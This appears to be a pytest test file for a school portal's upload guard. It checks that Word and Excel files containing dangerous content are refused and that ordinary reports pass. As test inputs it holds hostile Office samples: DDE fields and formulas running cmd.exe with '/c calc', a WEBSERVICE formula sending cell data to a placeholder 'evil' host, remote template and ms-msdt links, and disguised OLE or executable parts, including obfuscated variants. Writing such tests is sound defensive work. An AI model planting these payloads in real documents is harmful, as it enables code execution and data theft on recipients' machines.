"""Office files are judged by their structure: what fetches, runs or hides is refused, an ordinary report passes."""

import io

import docx
import pytest
import xlsxwriter
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from portal.core.errors import Invalid
from portal.core.files import uploads
from portal.core.spreadsheets import guard
from tests.attacks import corpus

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def types(**overrides: str) -> str:
    """Content types with the main part and more parts, named by extension ("bin") or as keyword `part__name_xml`."""
    rows = "".join(f'<Default Extension="{key}" ContentType="{value}"/>' for key, value in overrides.items())
    return corpus.CONTENT_TYPES.replace("<Override", rows + "<Override", 1)


def related(kind: str, target: str, outside: bool = True, base: str = RELATION) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return corpus.RELS.format(f'<Relationship Id="r1" Type="{base}/{kind}" Target="{target}"{mode}/>')


def document(inner: str) -> str:
    return f"<w:document {W}><w:body><w:p>{inner}</w:p></w:body></w:document>"


def field(*runs: str) -> str:
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{cut}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def in_document(member: str | bytes, path: str = "word/document.xml") -> bytes:
    return corpus.office(members={path: member})


def with_relation(*about, **more) -> bytes:
    return in_document(related(*about, **more), "word/_rels/document.xml.rels")


WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def sheet(formula: str, prefix: str = "", kind: str = WORKSHEET, before: str = "") -> bytes:
    cell = f'<{prefix}c r="A1"><{prefix}f>{formula}</{prefix}f><{prefix}v>1</{prefix}v></{prefix}c>'
    return corpus.office(
        corpus.XLSX,
        {"xl/worksheets/sheet1.xml": f"<worksheet>{before}<sheetData>{cell}</sheetData></worksheet>"},
        types=corpus.CONTENT_TYPES.replace(
            "</Types>", f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/></Types>'
        ),
    )


def workbook(inner: str) -> bytes:
    return corpus.office(corpus.XLSX, {"xl/workbook.xml": f"<workbook>{inner}</workbook>"})


def with_chart(embedded: bytes, source: str = "word/charts/chart1.xml", kind: str = CHART) -> bytes:
    folder, _, name = source.rpartition("/")
    return corpus.office(
        members={
            source: "<c:chartSpace xmlns:c='c'/>",
            f"{folder}/_rels/{name}.rels": related("package", "../embeddings/Book1.xlsx", outside=False),
            "word/embeddings/Book1.xlsx": embedded,
        },
        types=corpus.CONTENT_TYPES.replace(
            "</Types>", f'<Override PartName="/{source}" ContentType="{kind}"/></Types>'
        ),
    )


def book() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as made:
        made.add_worksheet("数据").write_row(0, 0, ["年度", 2025])
    return out.getvalue()


UTF16 = related("attachedTemplate", "http://evil/x.dotm").encode("utf-16")
ATTACKS = {
    "template in UTF-16": (lambda: in_document(UTF16, "word/_rels/settings.xml.rels"), "外部模板"),
    "template behind character references": (
        lambda: in_document(
            related("attachedTemplate", "http://evil/x.dotm").replace("External", "&#69;xternal"),
            "word/_rels/settings.xml.rels",
        ),
        "外部模板",
    ),
    "template of the strict kind": (
        lambda: with_relation("attachedTemplate", "http://evil/x.dotm", base=STRICT),
        "外部",
    ),
    "template on a share": (lambda: with_relation("attachedTemplate", r"\\evil\share\x.dotm"), "外部"),
    "template through a file address": (lambda: with_relation("attachedTemplate", "file://evil/x.dotm"), "外部"),
    "linked picture": (lambda: with_relation("image", "http://evil/pixel.png"), "图片"),
    "linked object": (lambda: with_relation("oleObject", "http://evil/x.html!"), "外部"),
    "linked page": (lambda: with_relation("frame", "http://evil/"), "嵌入"),
    "web page inside": (lambda: with_relation("aFChunk", "afchunk.mht", outside=False), "嵌入"),
    "unknown relation": (lambda: with_relation("brandNewThing", "x.xml", outside=False), "不认识"),
    "link that starts a program": (lambda: with_relation("hyperlink", "ms-msdt:/id"), "链接"),
    "link to a script": (lambda: with_relation("hyperlink", "javascript:alert(1)"), "链接"),
    "link to a share": (lambda: with_relation("hyperlink", r"file:///\\evil\share\x.docx"), "链接"),
    "dde field": (lambda: in_document(document(field(' DDEAUTO c:\\\\cmd.exe "/k calc" '))), "DDEAUTO"),
    "dde field cut in pieces": (lambda: in_document(document(field(" D", "DE", "AUTO", " cmd"))), "DDEAUTO"),
    "dde field in a header": (lambda: in_document(f"<w:hdr {W}>{field('DDE x')}</w:hdr>", "word/header1.xml"), "DDE"),
    "dde as a simple field": (lambda: in_document(document('<w:fldSimple w:instr="dde cmd"/>')), "DDE"),
    "dde in UTF-16": (lambda: in_document(document(field("DDE x")).encode("utf-16")), "DDE"),
    "field put together from fields": (lambda: in_document(document(field(f"{field('QUOTE 68 68 69')}x"))), "域代码"),
    "fetched picture": (
        lambda: in_document(document(field('INCLUDEPICTURE "http://evil/a.png" \\d'))),
        "INCLUDEPICTURE",
    ),
    "fetched text": (lambda: in_document(document(field("INCLUDETEXT //evil/a"))), "INCLUDETEXT"),
    "drawing with an address": (
        lambda: in_document(document('<v:imagedata xmlns:v="v" src="http://evil/a"/>')),
        "外部",
    ),
    "mail merge": (lambda: in_document(f"<w:settings {W}><w:mailMerge/></w:settings>", "word/settings.xml"), "外部"),
    "ole under another name": (lambda: in_document(OLE, "word/media/image1.png"), "嵌入"),
    "ole as printer settings": (lambda: in_document(OLE, "xl/printerSettings/printerSettings1.bin"), "嵌入"),
    "program under another name": (lambda: in_document(b"MZ" + b"\0" * 100, "word/media/image1.emf"), "嵌入"),
    "package under another name": (lambda: in_document(book(), "word/media/image1.jpeg"), "嵌入"),
    "macros under another name": (
        lambda: corpus.office(members={"word/data.bin": b"x"}, types=types(bin="application/vnd.ms-office.vbaProject")),
        "宏",
    ),
    "macros by relation": (lambda: with_relation("vbaProject", "data.bin", outside=False), "宏"),
    "macros of WPS": (lambda: with_relation("jsaProject", "JDEData.bin", outside=False), "宏"),
    "ribbon with callbacks": (lambda: with_relation("ui/extensibility", "customUI.xml", outside=False), "宏"),
    "macro enabled default type": (
        lambda: corpus.office(corpus.XLSX, types=types(xml="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "宏",
    ),
    "unknown content": (
        lambda: corpus.office(members={"word/a.html": "<a/>"}, types=types(html="text/html")),
        "不认识",
    ),
    "external workbook": (lambda: with_relation("externalLink", "externalLinks/1.xml", outside=False), "外部"),
    "data connections": (lambda: with_relation("connections", "connections.xml", outside=False), "外部"),
    "query table": (lambda: with_relation("queryTable", "q.xml", outside=False), "外部"),
    "add-in pane": (lambda: with_relation("webextensiontaskpanes", "t.xml", outside=False), "嵌入"),
    "dde formula": (lambda: sheet("cmd|'/c calc'!A1"), "外部"),
    "dde formula behind references": (lambda: sheet("cmd&#x7C;'/c calc'!A1"), "外部"),
    "formula that fetches": (lambda: sheet('WEBSERVICE("http://evil/?"&amp;A1)'), "外部"),
    "dde in a name": (
        lambda: workbook("<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName></definedNames>"),
        "外部",
    ),
    "dde formula in pieces": (lambda: sheet("cmd<!-- -->|'/c calc'!A1"), "外部"),
    "dde formula as raw text": (lambda: sheet("<![CDATA[cmd|'/c calc'!A1]]>"), "外部"),
    "dde formula after a long blank": (
        lambda: sheet("cmd" + " " * 8_000 + "|'/c calc'!A1", before=" " * 254_100),
        "外部",
    ),
    "dde formula behind a prefix": (lambda: sheet("cmd|'/c calc'!A1", prefix="a-b:"), "外部"),
    "dde formula in a sheet of another type": (lambda: sheet("cmd|'/c calc'!A1", kind="application/xml"), "外部"),
    "formula that fetches, behind references": (lambda: sheet("WEBSER&#86;ICE(A1)"), "外部"),
    "formula that fetches, in a rule": (
        lambda: corpus.office(corpus.XLSX, {"xl/tables/a.xml": "<t><formula1>WEBSERVICE(A1)</formula1></t>"}),
        "外部",
    ),
    "macro of another workbook": (
        lambda: in_document(r"<x:sp xmlns:x='x' macro='\\evil\a.xls!m'/>", "xl/drawings/drawing1.xml"),
        "宏",
    ),
    "field with a link that starts a program": (
        lambda: in_document(document(field(' HYPERLINK "ms-msdt:/id" '))),
        "链接",
    ),
    "field with a link to a share": (
        lambda: in_document(document(field(r' HYPERLINK \h "\\\\evil\\a.docx" \o "x"'))),
        "链接",
    ),
    "address of another computer without saying so": (
        lambda: with_relation("image", "http://evil/a.png", False),
        "外部",
    ),
    "picture that is a text with fields": (
        lambda: in_document(document(field("DDE x")), "word/media/image1.png"),
        "DDE",
    ),
    "drawing with an address behind references": (
        lambda: in_document("<v:imagedata src='&#104;ttp://evil/a'/>", "word/drawings/vmlDrawing1.vml"),
        "外部",
    ),
    "ole as a drawing": (lambda: in_document(OLE, "word/drawings/vmlDrawing1.vml"), "嵌入"),
    "program next to the text": (lambda: in_document("WScript.Echo 1", "word/media/a.vbs"), "嵌入"),
    "two parts of one name": (lambda: corpus.office(members={"word/a.xml": "<a/>", "word/A.xml": "<a/>"}), "不规范"),
    "macros in the workbook of a chart": (
        lambda: with_chart(corpus.office(corpus.XLSX, {"xl/vbaProject.bin": b"x"})),
        "宏",
    ),
    "no workbook behind a chart": (lambda: with_chart(OLE), "嵌入"),
    "workbook embedded without a chart": (lambda: with_chart(book(), "word/notes.xml", "application/xml"), "嵌入"),
    "bomb behind a chart": (
        lambda: with_chart(corpus.office(corpus.XLSX, {"xl/a.xml": b"0" * 30_000_000})),
        "异常庞大",
    ),
    "script in a drawing": (
        lambda: corpus.office(
            members={"word/media/a.svg": "<svg xmlns='s'><script>x</script></svg>"}, types=types(svg="image/svg+xml")
        ),
        "外部",
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_fetches_runs_or_hides_is_refused(attack):
    make, expected = ATTACKS[attack]
    content = make()
    name = "表.xlsx" if corpus.XLSX.encode() in _types_of(content) else "报告.docx"
    with pytest.raises(Invalid) as refusal:
        uploads.accept(corpus.upload(name, content))
    assert expected in refusal.value.message
    assert name in refusal.value.message


def _types_of(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read("[Content_Types].xml")


@pytest.mark.parametrize("name", ["报告.docx", "表.xlsx"])
def test_a_part_in_an_encoding_nobody_knows_is_damaged(name):
    kind = corpus.XLSX if name.endswith("xlsx") else corpus.DOCX
    content = corpus.office(kind, {"word/document.xml": "<?xml version='1.0' encoding='UDF-8'?><a/>"})
    with pytest.raises(Invalid, match="已损坏"):
        uploads.accept(corpus.upload(name, content))
    with pytest.raises(Invalid, match="已损坏"), guard.in_this_process():
        guard.load(
            corpus.office(
                corpus.XLSX,
                {"xl/workbook.xml": "<a/>", "xl/_rels/workbook.xml.rels": "<?xml version='1.0' encoding='UDF-8'?><a/>"},
            )
        )


def report() -> bytes:
    """A report as a school writes it: heading, table, picture, header, page number, contents, formula, link."""
    word = docx.Document()
    word.add_heading("自评报告", 1)
    word.add_table(2, 2).cell(0, 0).text = "生均教学用房"
    word.add_picture(io.BytesIO(corpus.image()))
    word.sections[0].header.paragraphs[0].text = "青禾小学"
    paragraph = word.add_paragraph()
    for code in (" PAGE ", ' TOC \\o "1-3" \\h ', ' HYPERLINK "https://www.moe.gov.cn" '):
        paragraph._p.append(parse_xml(f"<w:p {nsdecls('w')}>{field(code)}</w:p>"))
    paragraph._p.append(
        parse_xml(
            '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>x</m:t></m:r></m:oMath>'
        )
    )
    word.part.relate_to("https://www.moe.gov.cn/srcsite/", f"{RELATION}/hyperlink", is_external=True)
    word.part.relate_to("file:///C:\\Users\\王\\附件1.docx", f"{RELATION}/hyperlink", is_external=True)
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def sheets_with_everything() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as made:
        sheet = made.add_worksheet("台账")
        sheet.write_row(0, 0, ["校名", "面积|平方米", 12.5])
        sheet.write_formula("A2", '=SUBSTITUTE(B1,"|","")')
        sheet.write_url("A3", "https://www.gov.cn")
        sheet.write_comment("A1", "批注")
        sheet.add_table(5, 0, 7, 1)
        sheet.insert_checkbox("D1", True) if hasattr(sheet, "insert_checkbox") else None
        sheet.insert_image("E1", "a.png", {"image_data": io.BytesIO(corpus.image("PNG"))})
        sheet.data_validation("F1", {"validate": "list", "source": ["是", "否"]})
        chart = made.add_chart({"type": "column"})
        chart.add_series({"values": "=台账!$C$1:$C$1"})
        sheet.insert_chart("G1", chart)
    return out.getvalue()


ORDINARY = {
    "report": ("自评报告.docx", report),
    "chart": ("自评报告.docx", lambda: with_chart(book())),
    "workbook": ("台账.xlsx", sheets_with_everything),
    "own template": (
        "报告.docx",
        lambda: in_document(
            related("attachedTemplate", "file:///C:\\Users\\王\\AppData\\Templates\\Normal.dotm"),
            "word/_rels/settings.xml.rels",
        ),
    ),
    "links of a copied web page": (
        "报告.docx",
        lambda: corpus.office(
            members={
                "word/document.xml": document(
                    field(' HYPERLINK "javascript:void(0)" ') + field(' HYPERLINK \\l "_Toc1" ')
                ),
                "word/_rels/document.xml.rels": related("hyperlink", "javascript:;"),
            }
        ),
    ),
    "notes of the editor of Word": (
        "报告.docx",
        lambda: corpus.office(
            members={
                "word/intelligence2.xml": "<a/>",
                "word/_rels/document.xml.rels": related(
                    "intelligence",
                    "intelligence2.xml",
                    False,
                    "http://schemas.microsoft.com/office/2020/10/relationships",
                ),
            },
        ),
    ),
    "handwriting": (
        "报告.docx",
        lambda: corpus.office(
            members={"word/ink/ink1.iso": "<ink/>"},
            types=types(iso="application/inkml+xml"),
        ),
    ),
    "workbook written by a web page": (
        "表.xlsx",
        lambda: corpus.office(
            corpus.XLSX,
            {"xl/worksheets/sheet1.xml": "<worksheet/>"},
            types=types(bin="application/vnd.ms-excel.sheet.binary.macroEnabled.main", pdf="application/pdf"),
        ),
    ),
    "workbook of a web office": (
        "表.xlsx",
        lambda: corpus.office(
            corpus.XLSX,
            {
                "xl/metadata": b"x",
                "xl/_rels/workbook.xml.rels": related(
                    "workbookmetadata", "metadata", False, "http://customschemas.google.com/relationships"
                ),
            },
            types=corpus.CONTENT_TYPES.replace(
                "</Types>", '<Override PartName="/xl/metadata" ContentType="application/binary"/></Types>'
            ),
        ),
    ),
    "bar in the name of a sheet": ("表.xlsx", lambda: sheet("SUM('上|下'!A1,\"a|b\")")),
    "button without its macro": (
        "表.xlsx",
        lambda: corpus.office(corpus.XLSX, {"xl/drawings/drawing1.xml": "<x:sp xmlns:x='x' macro='[0]!按钮1_Click'/>"}),
    ),
    "picture lost by WPS": ("报告.docx", lambda: with_relation("image", "NULL")),
    "pictures in cells of WPS": (
        "表.xlsx",
        lambda: corpus.office(
            corpus.XLSX,
            {"xl/_rels/workbook.xml.rels": related("cellImage", "cellimages.xml", False, "http://www.wps.cn/2020")},
        ),
    ),
}


@pytest.mark.parametrize("kind", ORDINARY)
def test_what_a_school_writes_passes_and_keeps_its_bytes(kind):
    name, make = ORDINARY[kind]
    content = make()
    assert corpus.stored(name, content) == content
